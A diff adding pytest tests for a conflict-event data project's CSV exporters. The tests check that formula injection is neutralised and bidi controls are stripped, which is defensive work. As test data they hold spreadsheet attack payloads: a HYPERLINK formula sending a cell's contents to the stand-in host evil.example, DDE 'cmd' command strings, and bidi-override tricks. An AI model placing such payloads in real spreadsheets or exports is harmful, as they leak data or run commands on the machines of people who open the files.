@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -274,3 +275,127 @@ def test_json_documents_hold_one_item_per_line_and_parse_back():
     text = json_document(data)
     assert json.loads(text) == data
     assert text.splitlines()[3:5] == ['{"id":"a","t":"<ب>"},', '{"id":"b"}']
+
+
+# ---- spreadsheet safety: formula injection and bidi controls in every CSV -----------------------
+
+@pytest.mark.parametrize("value, cell", [
+    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\u202e=1+1", "'=1+1"),                 # a bidi control in front hides nothing
+    ("Jasim \u2066local\u2069 fighters\u200f", "Jasim local fighters"),
+    ("-3", "-3"), ("+4", "+4"), ("-0.5", "-0.5"), ("-1e3", "-1e3"),  # numbers written as text are no formulas
+    ("2022-10-17", "2022-10-17"), ("Jasim", "Jasim"), ("a = b", "a = b"), ("", ""),
+    (-36.5, -36.5), (3, 3), (0, 0), (None, ""),
+])
+def test_spreadsheet_cell(value, cell) -> None:
+    from generator.exports.tables import spreadsheet_cell
+
+    assert spreadsheet_cell(value) == cell
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+HOSTILE_NAMES = {
+    "places/jasim.yaml": ("name: {en: Jasim, ar: جاسم}", f"name: {{en: '{FORMULA.replace(chr(39), chr(39) * 2)}', ar: جاسم}}"),
+    "places/daraa-governorate.yaml": ("name: {en: Daraa Governorate,", "name: {en: '@SUM(1+1)*cmd',"),
+    "actors/organizations/islamic-state.yaml": ("en: Islamic State", "en: \"+cmd|' /C calc'!A0\""),
+    "actors/organizations/jasim-local-fighters.yaml": ("en: Jasim local fighters", "en: \"\\u202e-2+3 fighters\""),
+    "actors/organizations/ain-al-furat.yaml": ("en: Ain al-Furat Network", "en: \"\\t=1+1 network\""),
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_kb(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = copy_records(tmp_path_factory.mktemp("hostile"))
+    for relative, (old, new) in HOSTILE_NAMES.items():
+        path = root / relative
+        text = path.read_text(encoding="utf-8")
+        assert old in text, (relative, old)
+        path.write_text(text.replace(old, new), encoding="utf-8")
+    source = next((root / "sources/2022").glob("*.yaml"))
+    source.write_text(source.read_text(encoding="utf-8").replace("en: Ain al-Furat Network", "en: \"\\t=1+1 network\""),
+                      encoding="utf-8")
+    event = root / "events/2022/2022-10-17-jasim-armed-clash.yaml"
+    text = re.sub(r"(?m)^  en: Local fighters of Jasim.*$", lambda _: '  en: "-\\u202eLocal fighters of Jasim stormed houses"',
+                  event.read_text(encoding="utf-8"))
+    text = re.sub(r"(?m)^  en: 'Clashes in Jasim.*$", lambda _: "  en: '" + FORMULA.replace("'", "''") + "'", text)
+    event.write_text(text, encoding="utf-8")
+    # a place far to the west: negative coordinates must stay numbers
+    jasim = root / "places/jasim.yaml"
+    jasim.write_text(jasim.read_text(encoding="utf-8").replace("{lat: 32.99125, lon: 36.06093}", "{lat: -33.5, lon: -70.25}"),
+                     encoding="utf-8")
+    return root
+
+
+def csv_exports(kb: Path, tmp_path: Path) -> dict[str, str]:
+    """Every CSV the project writes: both formats from the library, from `kb export`, and in the built site's data/."""
+    store, settings = Store.load(kb), load_settings(kb)
+    texts = {f"render {name}": render(name, store, settings) for name in ("csv", "ucdp")}
+    runner = CliRunner()
+    for name in ("csv", "ucdp"):
+        result = runner.invoke(cli, ["export", "--format", name, "--root", str(kb)])
+        assert result.exit_code == 0, result.output
+        texts[f"kb export --format {name}"] = result.stdout
+        out = tmp_path / f"{name}.csv"
+        assert runner.invoke(cli, ["export", "--format", name, "--out", str(out), "--root", str(kb)]).exit_code == 0
+        texts[f"kb export --format {name} --out"] = out.read_text(encoding="utf-8")
+    for path in write_site_data(store, settings, tmp_path / "site"):
+        if path.suffix == ".csv":
+            texts[f"site {path.name}"] = path.read_text(encoding="utf-8")
+    assert len(texts) == 8
+    return texts
+
+
+BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+
+def test_no_csv_cell_is_a_formula_or_holds_bidi_controls(hostile_kb: Path, tmp_path: Path) -> None:
+    for name, text in csv_exports(hostile_kb, tmp_path).items():
+        table = list(csv.reader(io.StringIO(text, newline="")))
+        cells = [cell for line in table[1:] for cell in line]
+        for cell in cells:
+            assert not any(ch in cell for ch in BIDI), (name, cell)
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a number may start so
+        assert "'" + FORMULA in cells, name
+        assert "'@SUM(1+1)*cmd" in cells and "'+cmd|' /C calc'!A0" in cells, name
+        assert "'-2+3 fighters" in cells, name
+        assert any(cell.startswith("'\t=1+1 network") for cell in cells), name
+
+
+def test_csv_numbers_stay_numbers(hostile_kb: Path, tmp_path: Path) -> None:
+    texts = csv_exports(hostile_kb, tmp_path)
+    acled = {r["event_id_cnty"]: r for r in rows(texts["render csv"])}
+    clash = acled[CLASH]
+    assert (clash["latitude"], clash["longitude"]) == ("-33.5", "-70.25")
+    assert clash["event_date"] == "2022-10-17" and clash["fatalities"] == "3"
+    assert clash["actor1"] == "'-2+3 fighters" and clash["notes"] == "'-Local fighters of Jasim stormed houses"
+    ucdp = {r["id"]: r for r in rows(texts["render ucdp"])}[CLASH]
+    assert (ucdp["latitude"], ucdp["longitude"], ucdp["best"]) == ("-33.5", "-70.25", "3")
+    assert ucdp["geom_wkt"] == "POINT (-70.25 -33.5)"
+    assert ucdp["side_a"] == "'-2+3 fighters" and ucdp["source_office"] == "'\t=1+1 network"
+
+
+def strings(data) -> list[str]:
+    if isinstance(data, dict):
+        return [s for value in data.values() for s in strings(value)]
+    if isinstance(data, list):
+        return [s for value in data for s in strings(value)]
+    return [data] if isinstance(data, str) else []
+
+
+@pytest.mark.parametrize("format_name", ["json", "geojson"])
+def test_data_formats_keep_the_text_as_written(hostile_kb: Path, format_name: str) -> None:
+    """JSON is data, not a spreadsheet: texts go out as the records hold them, as JSON strings."""
+    texts = strings(json.loads(render(format_name, Store.load(hostile_kb), load_settings(hostile_kb))))
+    assert FORMULA in texts and "'" + FORMULA not in texts
+
+
+def test_atom_feed_keeps_the_text_as_written(hostile_kb: Path) -> None:
+    text = render_atom(Store.load(hostile_kb), load_settings(hostile_kb), "en", title="KB")
+    root = etree.fromstring(text.encode("utf-8"))
+    assert FORMULA in [entry.findtext(f"{ATOM}title") for entry in root.findall(f"{ATOM}entry")]
